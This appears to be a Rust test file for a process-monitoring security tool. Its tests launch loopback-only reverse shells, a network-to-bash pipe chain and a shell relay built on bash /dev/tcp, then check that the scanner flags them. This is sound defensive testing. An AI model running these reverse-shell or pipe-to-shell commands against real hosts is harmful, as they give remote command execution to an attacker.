#![expect(clippy::unwrap_used, reason = "tests")]

//! On real children of the test, with real sockets and pipes on loopback.

use super::*;
use monitor_common::state::{CLASS_FLAG_C, CLASS_INTERPRETER, CLASS_SHELL};
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener};
use std::process::{Child, Command, Stdio as Redirect};
use std::time::Duration;

struct Kid(Child);

impl Drop for Kid {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn classify(name: &str, _: Fingerprint) -> u32 {
    match name {
        "bash" | "sh" | "dash" => CLASS_SHELL | CLASS_FLAG_C,
        n if n.starts_with("python") => CLASS_INTERPRETER | CLASS_FLAG_C,
        _ => 0,
    }
}

fn registry() -> Registry {
    Registry::new(crate::container::hierarchy::detect().unwrap())
}

/// Reads the given processes and tells them as events.
fn told(pids: &[u32]) -> Vec<Event> {
    let registry = registry();
    let mut tables = HashMap::new();
    let tasks: Vec<Task> = pids.iter().filter_map(|pid| proc_scan::read_task(*pid, &registry, &mut tables)).collect();
    assert_eq!(tasks.len(), pids.len());
    events(&tasks, &classify, 1)
}

fn exec_of(events: &[Event], pid: u32) -> &Exec {
    events
        .iter()
        .find_map(|e| match &e.body {
            Body::Exec(x) if e.process.tgid == pid => Some(x.as_ref()),
            _ => None,
        })
        .unwrap()
}

#[test]
fn a_reverse_shell_that_is_already_up() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let script = format!("exec bash --norc <>/dev/tcp/127.0.0.1/{port} 1>&0 2>/dev/null");
    let kid = Kid(Command::new("bash").args(["-c", &script]).spawn().unwrap());
    let (mut stream, _) = listener.accept().unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    // An answer means that the inner shell is up.
    stream.write_all(b"echo up\n").unwrap();
    stream.read_exact(&mut [0; 3]).unwrap();
    let pid = kid.0.id();
    let events = told(&[pid]);
    let exec = exec_of(&events, pid);
    let peer = listener.local_addr().unwrap();
    assert_eq!(exec.stdio[0], Stdio::InetOut(peer));
    assert_eq!(exec.stdio[1], Stdio::InetOut(peer));
    assert_eq!(exec.stdio[2], Stdio::Device);
    let wanted = state::TASK_SHELL
        | state::TASK_NET_OUT
        | state::TASK_STDIN_INET
        | state::TASK_STDOUT_INET
        | state::TASK_READS_STDIN;
    assert_eq!(exec.task_flags & wanted, wanted);
    assert_eq!((exec.exe.name(), exec.form), ("bash", Form::Stdin));
    assert!(exec.fingerprint.code > 0 && exec.fingerprint.size > 0);
    assert!(events.iter().all(|e| e.id & STARTUP_ID != 0 && e.verdict == Verdict::Observed));
    // Once as a connection, although three descriptors share it.
    let connects: Vec<SocketAddr> = events
        .iter()
        .filter_map(|e| match &e.body {
            Body::Connect(c) if c.op == ConnectOp::Connect => Some(c.peer),
            _ => None,
        })
        .collect();
    assert_eq!(connects, [peer]);
    stream.write_all(b"exit\n").unwrap();
}

#[test]
fn an_accepted_connection_is_not_outbound() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let client = std::net::TcpStream::connect(listener.local_addr().unwrap()).unwrap();
    let (served, _) = listener.accept().unwrap();
    let kid = Kid(Command::new("sleep").arg("30").stdin(std::os::fd::OwnedFd::from(served)).spawn().unwrap());
    wait_for_exec(kid.0.id(), "sleep");
    let events = told(&[kid.0.id()]);
    let exec = exec_of(&events, kid.0.id());
    assert_eq!(exec.stdio[0], Stdio::InetOther(Some(client.local_addr().unwrap())));
    assert_eq!(exec.task_flags & state::TASK_NET_OUT, 0);
    assert_eq!(events.len(), 1, "nothing but the exec");
}

fn wait_for_exec(pid: u32, name: &str) {
    for _ in 0..200 {
        if std::fs::read_to_string(format!("/proc/{pid}/comm")).is_ok_and(|c| c.trim() == name) {
            return;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    panic!("{name} did not start");
}

/// `downloader | cat | bash`: the shell's text comes from the network through a filter.
#[test]
fn a_pipe_chain_from_the_network() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let mut source = bash("exec cat <>/dev/tcp/127.0.0.1/PORT", &listener, Redirect::null());
    let mut filter =
        Kid(Command::new("cat").stdin(source.0.stdout.take().unwrap()).stdout(Redirect::piped()).spawn().unwrap());
    let shell =
        Kid(Command::new("bash").stdin(filter.0.stdout.take().unwrap()).stdout(Redirect::null()).spawn().unwrap());
    wait_for_exec(source.0.id(), "cat");
    wait_for_exec(shell.0.id(), "bash");
    let events = told(&[source.0.id(), filter.0.id(), shell.0.id()]);
    let exec = exec_of(&events, shell.0.id());
    assert!(matches!(exec.stdio[0], Stdio::Pipe(_)));
    assert_eq!(exec.flags & (EXEC_STDIN_TAINTED | EXEC_RELAY), EXEC_STDIN_TAINTED);
    let origin = exec.origin.clone().unwrap();
    assert_eq!(origin.process.tgid, source.0.id());
    assert_eq!(origin.peer, Some(listener.local_addr().unwrap()));
    // Without the downloader there is no chain.
    let events = told(&[filter.0.id(), shell.0.id()]);
    assert_eq!(exec_of(&events, shell.0.id()).flags, 0);
}

/// A shell whose input comes from and whose output goes to one process with a connection.
#[test]
fn a_relay() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let mut shell = Kid(Command::new("bash").stdin(Redirect::piped()).stdout(Redirect::piped()).spawn().unwrap());
    let (stdin, stdout) = (shell.0.stdin.take().unwrap(), shell.0.stdout.take().unwrap());
    let script = format!("exec 3<>/dev/tcp/127.0.0.1/{}; exec sleep 30", listener.local_addr().unwrap().port());
    let relay = Kid(Command::new("bash").args(["-c", &script]).stdin(stdout).stdout(stdin).spawn().unwrap());
    let _held = listener.accept().unwrap();
    wait_for_exec(relay.0.id(), "sleep");
    let events = told(&[shell.0.id(), relay.0.id()]);
    let exec = exec_of(&events, shell.0.id());
    assert_eq!(exec.flags & EXEC_RELAY, EXEC_RELAY);
    assert_eq!(exec.origin.as_ref().unwrap().process.tgid, relay.0.id());
}

fn bash(script: &str, listener: &TcpListener, stdin: Redirect) -> Kid {
    let script = script.replace("PORT", &listener.local_addr().unwrap().port().to_string());
    let kid = Command::new("bash").args(["-c", &script]).stdin(stdin).stdout(Redirect::piped()).spawn().unwrap();
    let (stream, _) = listener.accept().unwrap();
    // Held open for the life of the test process: the child must not see its end.
    std::mem::forget(stream);
    Kid(kid)
}

#[test]
fn a_whole_scan_finds_this_process_and_no_kernel_thread() {
    let events = scan(&registry(), &classify, true).unwrap();
    let own = exec_of(&events, std::process::id());
    assert!(!own.args.is_empty());
    assert_ne!(own.parent.start_ns, 0, "parents are known");
    assert!(events.iter().all(|e| e.container == HOST));
    assert!(scan(&registry(), &classify, false).unwrap().is_empty(), "there are no containers here");
    let starts: Vec<u64> =
        events.iter().filter(|e| matches!(e.body, Body::Exec(_))).map(|e| e.process.start_ns).collect();
    assert!(starts.is_sorted(), "parents come before children");
}

#[test]
fn starts_compare_with_the_kernels() {
    let events = told(&[std::process::id()]);
    let start = events[0].process.start_ns;
    assert!(crate::respond::kill::same_start(start, start + 9_999_999));
    assert!(now_ns() > start);
}
